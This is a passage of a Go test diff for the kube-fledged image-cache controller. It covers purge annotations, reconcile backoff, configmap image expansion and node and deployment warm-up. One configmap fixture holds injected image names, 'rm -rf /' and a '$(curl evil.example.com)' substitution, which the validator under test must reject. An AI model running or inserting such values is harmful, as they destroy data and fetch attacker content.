+			obj:             cache.DeletedFinalStateUnknown{Key: "tenant-a/foo", Obj: imageCache},
+			expectedResult:  true,
+		},
+	}
+	for _, test := range tests {
+		controller, _, _ := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		controller.watchNamespaces = test.watchNamespaces
+		if result := controller.watched(test.obj); result != test.expectedResult {
+			t.Errorf("Test %s failed: expected=%t, actual=%t", test.name, test.expectedResult, result)
+		}
+	}
+}
+
+func TestParsePurgeImageAnnotation(t *testing.T) {
+	tests := []struct {
+		value         string
+		expectedImage string
+		expectedNode  string
+		expectedOk    bool
+	}{
+		{value: "nginx:1.17@node1", expectedImage: "nginx:1.17", expectedNode: "node1", expectedOk: true},
+		{value: "nginx@sha256:abc@node1", expectedImage: "nginx@sha256:abc", expectedNode: "node1", expectedOk: true},
+		{value: "nginx:1.17", expectedOk: false},
+		{value: "nginx:1.17@", expectedOk: false},
+		{value: "@node1", expectedOk: false},
+	}
+	for _, test := range tests {
+		image, node, ok := parsePurgeImageAnnotation(test.value)
+		if image != test.expectedImage || node != test.expectedNode || ok != test.expectedOk {
+			t.Errorf("Test %s failed: expected (%s, %s, %t), actual (%s, %s, %t)", test.value,
+				test.expectedImage, test.expectedNode, test.expectedOk, image, node, ok)
+		}
+	}
+}
+
+func TestSyncPurgeImage(t *testing.T) {
+	imageCache := kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:        "foo",
+			Namespace:   "kube-fledged",
+			Annotations: map[string]string{imageCachePurgeImageAnnotationKey: ""},
+		},
+		Spec: kubefledgedv1alpha1.ImageCacheSpec{
+			CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+				{
+					Images: []string{"foo", "bar"},
+				},
+			},
+		},
+		Status: kubefledgedv1alpha1.ImageCacheStatus{
+			Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+			Images: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "bar", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+				{Image: "foo", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+			},
+		},
+	}
+	tests := []struct {
+		name                   string
+		image                  string
+		node                   string
+		expectedImages         []kubefledgedv1alpha1.ImageNodeStatus
+		expectPurgeRequest     bool
+		expectAnnotationRemove bool
+	}{
+		{
+			name:  "#1: Image cached in node. Queued for purge",
+			image: "foo",
+			node:  "bar",
+			expectedImages: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "bar", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+				{Image: "foo", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
+			},
+			expectPurgeRequest: true,
+		},
+		{
+			name:                   "#2: Image not cached in node, so no purge",
+			image:                  "foo",
+			node:                   "baz",
+			expectAnnotationRemove: true,
+		},
+	}
+	for _, test := range tests {
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		var updates []*kubefledgedv1alpha1.ImageCache
+		fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, imageCache.DeepCopy(), nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+			updates = append(updates, obj)
+			return true, obj, nil
+		})
+		controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+		wqKey := images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCachePurge, Image: test.image, Node: test.node}
+		if err := controller.syncHandler(wqKey); err != nil {
+			t.Errorf("Test: %s failed: expectedError=nil, actualError=%s", test.name, err.Error())
+			continue
+		}
+		if test.expectPurgeRequest {
+			obj, _ := controller.imageworkqueue.Get()
+			if iwr := obj.(images.ImageWorkRequest); iwr.WorkType != images.ImageCachePurge || iwr.Image != test.image || iwr.Node.Labels["kubernetes.io/hostname"] != test.node {
+				t.Errorf("Test: %s failed: expected purge request of %s@%s, actual %+v", test.name, test.image, test.node, iwr)
+			}
+		}
+		if len(updates) != 1 {
+			t.Errorf("Test: %s failed: expected 1 update, actual %d", test.name, len(updates))
+			continue
+		}
+		if _, exists := updates[0].Annotations[imageCachePurgeImageAnnotationKey]; exists == test.expectAnnotationRemove {
+			t.Errorf("Test: %s failed: expectAnnotationRemove=%t, actual annotations %v", test.name, test.expectAnnotationRemove, updates[0].Annotations)
+		}
+		if test.expectedImages != nil {
+			status := updates[0].Status
+			if status.Reason != kubefledgedv1alpha1.ImageCacheReasonImageCachePurgeImage || !reflect.DeepEqual(status.Images, test.expectedImages) {
+				t.Errorf("Test: %s failed: expected images %+v, actual %s %+v", test.name, test.expectedImages, status.Reason, status.Images)
+			}
+		}
+	}
+}
+
+func TestProcessNextWorkItem(t *testing.T) {
+	type ActionReaction struct {
+		action   string
+		reaction string
+	}
+	defaultImageCache := kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:      "foo",
+			Namespace: "kube-fledged",
+		},
+		Spec: kubefledgedv1alpha1.ImageCacheSpec{
+			CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+				{
+					Images: []string{"foo"},
+				},
+			},
+		},
+	}
+
+	tests := []struct {
+		name              string
+		imageCache        kubefledgedv1alpha1.ImageCache
+		wqKey             images.WorkQueueKey
+		expectedActions   []ActionReaction
+		expectErr         bool
+		expectedErrString string
+	}{
+		{
+			name:       "#1: StatusUpdate - ImageDeleteFailedForSomeImages",
+			imageCache: defaultImageCache,
+			wqKey: images.WorkQueueKey{
+				ObjKey:   "kube-fledged/foo",
+				WorkType: images.ImageCacheStatusUpdate,
+				Status: &map[string]images.ImageWorkResult{
+					"job1": {
+						Status: images.ImageWorkResultStatusFailed,
+						ImageWorkRequest: images.ImageWorkRequest{
+							WorkType: images.ImageCachePurge,
+							Node:     &node,
+						},
+					},
+				},
+			},
+			expectedActions: []ActionReaction{
+				{action: "get", reaction: ""},
+				{action: "update", reaction: ""},
+			},
+			expectErr:         false,
+			expectedErrString: "",
+		},
+		{
+			name: "#2: Create - Invalid imagecache spec (no images specified)",
+			imageCache: kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{
+					Name:      "foo",
+					Namespace: "kube-fledged",
+				},
+				Spec: kubefledgedv1alpha1.ImageCacheSpec{
+					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+						{
+							Images: []string{},
+						},
+					},
+				},
+			},
+			wqKey: images.WorkQueueKey{
+				ObjKey:   "kube-fledged/foo",
+				WorkType: images.ImageCacheCreate,
+			},
+			expectedActions:   []ActionReaction{{action: "update", reaction: ""}},
+			expectErr:         false,
+			expectedErrString: "No images specified within image list",
+		},
+		{
+			name:              "#3: Unexpected type in workqueue",
+			expectErr:         false,
+			expectedErrString: "Unexpected type in workqueue",
+		},
+	}
+
+	for _, test := range tests {
+		fakekubeclientset := &fakeclientset.Clientset{}
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		for _, ar := range test.expectedActions {
+			if ar.reaction != "" {
+				apiError := apierrors.NewInternalError(fmt.Errorf(ar.reaction))
+				fakefledgedclientset.AddReactor(ar.action, "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+					return true, nil, apiError
+				})
+			}
+			fakefledgedclientset.AddReactor(ar.action, "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+				return true, &test.imageCache, nil
+			})
+		}
+
+		controller, _, imagecacheInformer := newTestController(fakekubeclientset, fakefledgedclientset)
+		imagecacheInformer.Informer().GetIndexer().Add(&test.imageCache)
+		if test.expectedErrString == "Unexpected type in workqueue" {
+			controller.workqueue.Add(struct{}{})
+		}
+		controller.workqueue.Add(test.wqKey)
+		controller.processNextWorkItem()
+		var err error
+		if test.expectErr {
+			if err == nil {
+				t.Errorf("Test: %s failed: expectedError=%s, actualError=nil", test.name, test.expectedErrString)
+			}
+			if err != nil && !strings.HasPrefix(err.Error(), test.expectedErrString) {
+				t.Errorf("Test: %s failed: expectedError=%s, actualError=%s", test.name, test.expectedErrString, err.Error())
+			}
+		} else if err != nil {
+			t.Errorf("Test: %s failed. expectedError=nil, actualError=%s", test.name, err.Error())
+		}
+	}
+	t.Logf("%d tests passed", len(tests))
+}
+
+func TestReconcileBackoff(t *testing.T) {
+	b := newReconcileBackoff(20 * time.Second)
+	key := "kube-fledged/foo"
+	if b.backingOff(key) {
+		t.Errorf("Test failed: image cache without failures should not back off")
+	}
+	expectedDelays := []time.Duration{5 * time.Second, 10 * time.Second, 20 * time.Second, 20 * time.Second}
+	for i, expectedDelay := range expectedDelays {
+		if delay := b.failed(key); delay != expectedDelay {
+			t.Errorf("Test failed: failure %d: expected backoff %s, actual %s", i+1, expectedDelay, delay)
+		}
+	}
+	if !b.backingOff(key) || b.failures(key) != len(expectedDelays) {
+		t.Errorf("Test failed: expected image cache to back off after %d failures, actual %d failures", len(expectedDelays), b.failures(key))
+	}
+	if b.backingOff("kube-fledged/bar") {
+		t.Errorf("Test failed: backoff of an image cache should not affect other image caches")
+	}
+	b.succeeded(key)
+	if b.backingOff(key) || b.failures(key) != 0 {
+		t.Errorf("Test failed: expected backoff to be reset once the image cache succeeds")
+	}
+	if delay := b.failed(key); delay != reconcileBackoffBaseDelay {
+		t.Errorf("Test failed: expected backoff %s after reset, actual %s", reconcileBackoffBaseDelay, delay)
+	}
+}
+
+func TestReconcileContexts(t *testing.T) {
+	r := newReconcileContexts(10 * time.Millisecond)
+	ctx := r.start("kube-fledged/foo")
+	other := r.start("kube-fledged/bar")
+	r.done("kube-fledged/bar")
+	if other.Err() != context.Canceled {
+		t.Errorf("Test failed: expected context to be cancelled once the reconcile is done, actual %v", other.Err())
+	}
+	select {
+	case <-ctx.Done():
+	case <-time.After(time.Second):
+		t.Errorf("Test failed: expected context to be done once the reconcile timeout is exceeded")
+	}
+
+	// Reconciles without timeout are done only when they complete, or when the image cache is reconciled again
+	r = newReconcileContexts(0)
+	ctx = r.start("kube-fledged/foo")
+	if ctx.Err() != nil {
+		t.Errorf("Test failed: expected context without timeout not to be done, actual %v", ctx.Err())
+	}
+	r.start("kube-fledged/foo")
+	if ctx.Err() != context.Canceled {
+		t.Errorf("Test failed: expected context of the previous reconcile to be cancelled, actual %v", ctx.Err())
+	}
+	r.done("kube-fledged/foo")
+	if len(r.cancels) != 0 {
+		t.Errorf("Test failed: expected contexts to be released, actual %d", len(r.cancels))
+	}
+}
+
+func TestRequeueWithBackoff(t *testing.T) {
+	tests := []struct {
+		name            string
+		imageCache      *kubefledgedv1alpha1.ImageCache
+		workType        images.WorkType
+		expectedRequeue bool
+	}{
+		{
+			name: "#1: Failed image cache requeued",
+			imageCache: &kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: "kube-fledged"},
+				Status:     kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusFailed},
+			},
+			workType:        images.ImageCacheCreate,
+			expectedRequeue: true,
+		},
+		{
+			name:            "#2: Image cache no longer exists",
+			workType:        images.ImageCacheCreate,
+			expectedRequeue: false,
+		},
+		{
+			name: "#3: Image cache under processing",
+			imageCache: &kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: "kube-fledged"},
+				Status:     kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusProcessing},
+			},
+			workType:        images.ImageCacheRefresh,
+			expectedRequeue: false,
+		},
+		{
+			name: "#4: Status update of image cache under processing requeued",
+			imageCache: &kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: "kube-fledged"},
+				Status:     kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusProcessing},
+			},
+			workType:        images.ImageCacheStatusUpdate,
+			expectedRequeue: true,
+		},
+	}
+	for _, test := range tests {
+		controller, _, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		if test.imageCache != nil {
+			imagecacheInformer.Informer().GetIndexer().Add(test.imageCache)
+		}
+		controller.requeueWithBackoff(images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: test.workType})
+		if requeued := controller.reconcileBackoff.backingOff("kube-fledged/foo"); requeued != test.expectedRequeue {
+			t.Errorf("Test: %s failed: expectedRequeue=%t, actualRequeue=%t", test.name, test.expectedRequeue, requeued)
+		}
+		controller.workqueue.ShutDown()
+	}
+}
+
+// newConfigMapLister returns a lister of the ConfigMaps
+func newConfigMapLister(configMaps ...*corev1.ConfigMap) corelisters.ConfigMapLister {
+	indexer := cache.NewIndexer(cache.MetaNamespaceKeyFunc, cache.Indexers{cache.NamespaceIndex: cache.MetaNamespaceIndexFunc})
+	for _, configMap := range configMaps {
+		indexer.Add(configMap)
+	}
+	return corelisters.NewConfigMapLister(indexer)
+}
+
+func TestExpandCacheSpec(t *testing.T) {
+	optional := true
+	configMap := &corev1.ConfigMap{
+		ObjectMeta: metav1.ObjectMeta{Name: "ci-images", Namespace: fledgedNameSpace},
+		Data: map[string]string{"images": "# generated by CI\nredis:5\n\n  nginx:1.17  \npostgres:12\n",
+			"invalid": "redis:5\nnginx:1.17; rm -rf /\n$(curl evil.example.com)\nNginx\n"},
+	}
+	otherNamespaceConfigMap := &corev1.ConfigMap{
+		ObjectMeta: metav1.ObjectMeta{Name: "other-images", Namespace: "default"},
+		Data:       map[string]string{"images": "redis:5"},
+	}
+	tests := []struct {
+		name            string
+		images          []string
+		imagesFrom      *corev1.ConfigMapKeySelector
+		expectedImages  []string
+		expectedMissing []string
+		expectedInvalid []string
+	}{
+		{
+			name:           "#1: No configmap referenced",
+			images:         []string{"nginx:1.17"},
+			expectedImages: []string{"nginx:1.17"},
+		},
+		{
+			name:           "#2: Images of configmap appended, without duplicates",
+			images:         []string{"nginx:1.17"},
+			imagesFrom:     &corev1.ConfigMapKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "ci-images"}, Key: "images"},
+			expectedImages: []string{"nginx:1.17", "redis:5", "postgres:12"},
+		},
+		{
+			name:            "#3: Configmap key not found",
+			imagesFrom:      &corev1.ConfigMapKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "ci-images"}, Key: "nightly"},
+			expectedMissing: []string{"ci-images/nightly"},
+		},
+		{
+			name:            "#4: Configmap in other namespace not found",
+			imagesFrom:      &corev1.ConfigMapKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "other-images"}, Key: "images"},
+			expectedMissing: []string{"other-images/images"},
+		},
+		{
+			name:   "#5: Optional configmap not found",
+			images: []string{"nginx:1.17"},
+			imagesFrom: &corev1.ConfigMapKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "missing-images"}, Key: "images",
+				Optional: &optional},
+			expectedImages: []string{"nginx:1.17"},
+		},
+		{
+			name:           "#6: Invalid images of configmap dropped",
+			imagesFrom:     &corev1.ConfigMapKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "ci-images"}, Key: "invalid"},
+			expectedImages: []string{"redis:5"},
+			expectedInvalid: []string{"ci-images/invalid: nginx:1.17; rm -rf /", "ci-images/invalid: $(curl evil.example.com)",
+				"ci-images/invalid: Nginx"},
+		},
+	}
+	for _, test := range tests {
+		controller, _, _ := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		controller.configMapsLister = newConfigMapLister(configMap, otherNamespaceConfigMap)
+		imageCache := &kubefledgedv1alpha1.ImageCache{
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+					{Images: test.images, ImagesFrom: test.imagesFrom},
+				},
+			},
+		}
+		cacheSpec, missing, invalid, err := controller.expandCacheSpec(imageCache)
+		if err != nil {
+			t.Errorf("Test: %s failed: %v", test.name, err)
+			continue
+		}
+		if !reflect.DeepEqual(cacheSpec[0].Images, test.expectedImages) {
+			t.Errorf("Test: %s failed: expectedImages=%v, actualImages=%v", test.name, test.expectedImages, cacheSpec[0].Images)
+		}
+		if len(missing) != len(test.expectedMissing) || (len(missing) > 0 && !reflect.DeepEqual(missing, test.expectedMissing)) {
+			t.Errorf("Test: %s failed: expectedMissing=%v, actualMissing=%v", test.name, test.expectedMissing, missing)
+		}
+		if len(invalid) != len(test.expectedInvalid) || (len(invalid) > 0 && !reflect.DeepEqual(invalid, test.expectedInvalid)) {
+			t.Errorf("Test: %s failed: expectedInvalid=%v, actualInvalid=%v", test.name, test.expectedInvalid, invalid)
+		}
+		if !reflect.DeepEqual(imageCache.Spec.CacheSpec[0].Images, test.images) {
+			t.Errorf("Test: %s failed: spec of image cache modified: %v", test.name, imageCache.Spec.CacheSpec[0].Images)
+		}
+	}
+}
+
+func TestEnqueueImageCachesOfConfigMap(t *testing.T) {
+	imagesFrom := &corev1.ConfigMapKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "ci-images"}, Key: "images"}
+	tests := []struct {
+		name           string
+		configMap      *corev1.ConfigMap
+		added          bool
+		imagesFrom     *corev1.ConfigMapKeySelector
+		status         kubefledgedv1alpha1.ImageCacheStatus
+		workqueueItems int
+	}{
+		{
+			name:           "#1: Configmap of images changed",
+			configMap:      &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "ci-images", Namespace: fledgedNameSpace}},
+			imagesFrom:     imagesFrom,
+			status:         kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded},
+			workqueueItems: 1,
+		},
+		{
+			name:           "#2: Configmap not referenced by image cache",
+			configMap:      &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "other-images", Namespace: fledgedNameSpace}},
+			imagesFrom:     imagesFrom,
+			status:         kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded},
+			workqueueItems: 0,
+		},
+		{
+			name:           "#3: Configmap in other namespace",
+			configMap:      &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "ci-images", Namespace: "default"}},
+			imagesFrom:     imagesFrom,
+			status:         kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded},
+			workqueueItems: 0,
+		},
+		{
+			name:           "#4: Configmap added for image cache already synced",
+			configMap:      &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "ci-images", Namespace: fledgedNameSpace}},
+			added:          true,
+			imagesFrom:     imagesFrom,
+			status:         kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded},
+			workqueueItems: 0,
+		},
+		{
+			name:       "#5: Configmap added for image cache failed since it was not found",
+			configMap:  &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "ci-images", Namespace: fledgedNameSpace}},
+			added:      true,
+			imagesFrom: imagesFrom,
+			status: kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusFailed,
+				Reason: kubefledgedv1alpha1.ImageCacheReasonImagesConfigMapNotFound},
+			workqueueItems: 1,
+		},
+		{
+			name:           "#6: Image cache under processing",
+			configMap:      &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "ci-images", Namespace: fledgedNameSpace}},
+			imagesFrom:     imagesFrom,
+			status:         kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusProcessing},
+			workqueueItems: 0,
+		},
+	}
+	for _, test := range tests {
+		controller, _, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		imagecacheInformer.Informer().GetIndexer().Add(&kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: fledgedNameSpace},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{{ImagesFrom: test.imagesFrom}},
+			},
+			Status: test.status,
+		})
+		controller.enqueueImageCachesOfConfigMap(test.configMap, test.added)
+		// Image caches are queued after the delay of the rate limiter
+		queued := controller.workqueue.NumRequeues(images.WorkQueueKey{WorkType: images.ImageCacheRefresh, ObjKey: "kube-fledged/foo"})
+		if queued != test.workqueueItems {
+			t.Errorf("Test: %s failed: expected %d, actual %d", test.name, test.workqueueItems, queued)
+		}
+	}
+}
+
+func TestEnqueueImageCachesOfNode(t *testing.T) {
+	newNode := func(ready bool, created time.Time, labels map[string]string) *corev1.Node {
+		n := node.DeepCopy()
+		n.CreationTimestamp = metav1.NewTime(created)
+		for k, v := range labels {
+			n.Labels[k] = v
+		}
+		if !ready {
+			n.Status = corev1.NodeStatus{}
+		}
+		return n
+	}
+	now := time.Now().Add(time.Minute)
+	tests := []struct {
+		name           string
+		old            *corev1.Node
+		new            *corev1.Node
+		nodeSelector   map[string]string
+		paused         bool
+		workqueueItems int
+	}{
+		{
+			name:           "#1: Ready node added",
+			new:            newNode(true, now, nil),
+			workqueueItems: 1,
+		},
+		{
+			name: "#2: Node listed when controller started",
+			new:  newNode(true, time.Now().Add(-time.Hour), nil),
+		},
+		{
+			name: "#3: Not ready node added",
+			new:  newNode(false, now, nil),
+		},
+		{
+			name:           "#4: Node became ready",
+			old:            newNode(false, now, nil),
+			new:            newNode(true, now, nil),
+			workqueueItems: 1,
+		},
+		{
+			name: "#5: Ready node updated",
+			old:  newNode(true, now, nil),
+			new:  newNode(true, now, nil),
+		},
+		{
+			name:           "#6: Node labelled to be selected",
+			old:            newNode(true, now, nil),
+			new:            newNode(true, now, map[string]string{"pool": "gpu"}),
+			nodeSelector:   map[string]string{"pool": "gpu"},
+			workqueueItems: 1,
+		},
+		{
+			name:         "#7: Node not selected",
+			new:          newNode(true, now, nil),
+			nodeSelector: map[string]string{"pool": "gpu"},
+		},
+		{
+			name:   "#8: Image cache paused",
+			new:    newNode(true, now, nil),
+			paused: true,
+		},
+	}
+	for _, test := range tests {
+		controller, _, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		imagecacheInformer.Informer().GetIndexer().Add(&kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: fledgedNameSpace},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{{Images: []string{"foo"}, NodeSelector: test.nodeSelector}},
+				Paused:    test.paused,
+			},
+			Status: kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded},
+		})
+		controller.enqueueImageCachesOfNode(test.old, test.new)
+		// Image caches are queued after the delay of the rate limiter
+		queued := controller.workqueue.NumRequeues(images.WorkQueueKey{WorkType: images.ImageCacheRefresh, ObjKey: "kube-fledged/foo", Node: "bar"})
+		if queued != test.workqueueItems {
+			t.Errorf("Test: %s failed: expected %d, actual %d", test.name, test.workqueueItems, queued)
+		}
+	}
+}
+
+func TestWarmUpDeployment(t *testing.T) {
+	newDeployment := func(annotated bool, images ...string) *appsv1.Deployment {
+		d := &appsv1.Deployment{
+			ObjectMeta: metav1.ObjectMeta{Name: "app", Namespace: "default"},
+		}
+		if annotated {
+			d.Annotations = map[string]string{kubefledgedv1alpha1.DeploymentWarmUpAnnotationKey: "true"}
+		}
+		for _, image := range images {
+			d.Spec.Template.Spec.Containers = append(d.Spec.Template.Spec.Containers, corev1.Container{Name: image, Image: image})
+		}
+		return d
+	}
+	tests := []struct {
+		name           string
+		old            *appsv1.Deployment
+		new            *appsv1.Deployment
+		expectedImages []string
+	}{
+		{
+			name:           "#1: Image of annotated deployment changed",
+			old:            newDeployment(true, "app:v1", "sidecar:v1"),
+			new:            newDeployment(true, "app:v2", "sidecar:v1"),
+			expectedImages: []string{"app:v2"},
+		},
+		{
+			name: "#2: Deployment not annotated",
+			old:  newDeployment(false, "app:v1"),
+			new:  newDeployment(false, "app:v2"),
+		},
+		{
+			name: "#3: Images not changed",
+			old:  newDeployment(true, "app:v1"),
+			new:  newDeployment(true, "app:v1"),
+		},
+	}
+	for _, test := range tests {
+		controller, nodeInformer, _ := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		controller.warmUpDeployment(test.old, test.new)
+		// Image work requests are queued with the delay of the rate limiter
+		time.Sleep(50 * time.Millisecond)
+		var warmedUp []string
+		sentinel := false
+		for controller.imageworkqueue.Len() > 0 {
+			item, _ := controller.imageworkqueue.Get()
+			iwr := item.(images.ImageWorkRequest)
+			if !iwr.WarmUp || iwr.Imagecache.Name != images.WarmUpImageCachePrefix+"app" || iwr.Imagecache.Namespace != "default" {
+				t.Errorf("Test: %s failed: unexpected image work request %+v", test.name, iwr)
+			}
+			if iwr.Image == "" {
+				sentinel = true
+			} else {
+				warmedUp = append(warmedUp, iwr.Image)
+			}
+			controller.imageworkqueue.Done(item)
+		}
+		if !reflect.DeepEqual(warmedUp, test.expectedImages) {
+			t.Errorf("Test: %s failed: expected images %v, actual %v", test.name, test.expectedImages, warmedUp)
+		}
+		if sentinel != (len(test.expectedImages) > 0) {
+			t.Errorf("Test: %s failed: expected status update request=%t, actual=%t", test.name, len(test.expectedImages) > 0, sentinel)
+		}
+	}
+}
+
+func TestSyncHandlerNodeAdded(t *testing.T) {
+	otherNode := node.DeepCopy()
+	otherNode.Name = "other"
+	otherNode.Labels = map[string]string{"kubernetes.io/hostname": "other"}
+	cachedTime := metav1.Now()
+	imageCache := kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:       "foo",
+			Namespace:  "kube-fledged",
+			Finalizers: []string{imageCachePurgeFinalizer},
+		},
+		Spec: kubefledgedv1alpha1.ImageCacheSpec{
+			CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+				{Images: []string{"foo"}},
+			},
+		},
+		Status: kubefledgedv1alpha1.ImageCacheStatus{
+			Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+			Reason: kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+			Images: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "foo", Node: "other", Phase: kubefledgedv1alpha1.ImagePhaseCached, CachedTime: &cachedTime},
+			},
+		},
+	}
+	fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+	var updates []*kubefledgedv1alpha1.ImageCache
+	fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+		return true, imageCache.DeepCopy(), nil
+	})
+	fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+		obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+		updates = append(updates, obj)
+		return true, obj, nil
+	})
+	controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+	nodeInformer.Informer().GetIndexer().Add(&node)
+	nodeInformer.Informer().GetIndexer().Add(otherNode)
+	imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+
+	// Images are queued to be cached only in the new node
+	wqKey := images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheRefresh, Node: "bar"}
+	if err := controller.syncHandler(wqKey); err != nil {
+		t.Fatalf("Test: %s failed: expectedError=nil, actualError=%s", wqKey.WorkType, err.Error())
+	}
+	for i := 0; i < 100 && controller.imageworkqueue.Len() < 2; i++ {
+		time.Sleep(10 * time.Millisecond)
+	}
+	if controller.imageworkqueue.Len() != 2 {
+		t.Fatalf("Test failed: expected an image work request and the end of requests, actual %d requests", controller.imageworkqueue.Len())
+	}
+	obj, _ := controller.imageworkqueue.Get()
+	if iwr := obj.(images.ImageWorkRequest); iwr.Node == nil || iwr.Node.Labels["kubernetes.io/hostname"] != "bar" {
+		t.Errorf("Test failed: expected image work request in node bar, actual %+v", iwr)
+	}
+	if len(updates) == 0 {
+		t.Fatalf("Test failed: image cache status not updated")
+	}
+	status := updates[len(updates)-1].Status
+	if status.Reason != kubefledgedv1alpha1.ImageCacheReasonNodeAdded || len(status.Images) != 2 {
+		t.Errorf("Test failed: expected reason %s with images of both nodes, actual reason %s with images %+v",
+			kubefledgedv1alpha1.ImageCacheReasonNodeAdded, status.Reason, status.Images)
+	}
+
+	// Statuses of the images in the other nodes are retained
+	updates = nil
+	imageCache.Status.Reason = kubefledgedv1alpha1.ImageCacheReasonNodeAdded
+	wqKey = images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate, Status: &map[string]images.ImageWorkResult{
+		"job1": {
+			Status:           images.ImageWorkResultStatusSucceeded,
+			ImageWorkRequest: images.ImageWorkRequest{Image: "foo", WorkType: images.ImageCacheRefresh, Node: &node},
+		},
+	}}
+	if err := controller.syncHandler(wqKey); err != nil {
+		t.Fatalf("Test: %s failed: expectedError=nil, actualError=%s", wqKey.WorkType, err.Error())
+	}
+	if len(updates) == 0 {
+		t.Fatalf("Test: %s failed: image cache status not updated", wqKey.WorkType)
+	}
+	status = updates[0].Status
+	if len(status.Images) != 2 {
+		t.Errorf("Test: %s failed: expected images of both nodes, actual %+v", wqKey.WorkType, status.Images)
+	}
+
